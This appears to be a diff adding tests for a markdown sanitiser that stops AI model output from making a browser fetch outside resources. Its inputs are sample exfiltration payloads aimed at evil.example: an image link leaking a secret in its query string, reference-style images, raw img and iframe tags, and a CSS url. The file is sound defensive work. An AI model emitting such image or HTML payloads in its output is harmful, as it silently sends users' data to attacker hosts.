@@ -1,0 +1,23 @@
+"""Model output cannot make the browser fetch anything, and still reads as written."""
+
+from __future__ import annotations
+
+from workbench.safety import safe_markdown
+
+
+def test_markdown_images_become_text():
+    out = safe_markdown("See ![chart](https://evil.example/pixel.png?leak=secret) here")
+    assert "![" not in out and "](https://evil" not in out
+    assert "image blocked: chart" in out and "https://evil.example/pixel.png?leak=secret" in out
+
+
+def test_reference_images_and_raw_html_are_inert():
+    out = safe_markdown('![x][ref]\n\n[ref]: https://evil.example/a.png\n<img src="https://evil.example/b.png">'
+                        '<iframe src="https://evil.example"></iframe><style>body{background:url(https://e.x)}</style>')
+    assert "<img" not in out and "<iframe" not in out and "<style" not in out
+    assert "&lt;img" in out
+    assert "image blocked: x" in out
+
+
+def test_ordinary_text_and_comparisons_survive():
+    assert safe_markdown("Risk: HIGH. 3 < 5 and **bold**") == "Risk: HIGH. 3 &lt; 5 and **bold**"
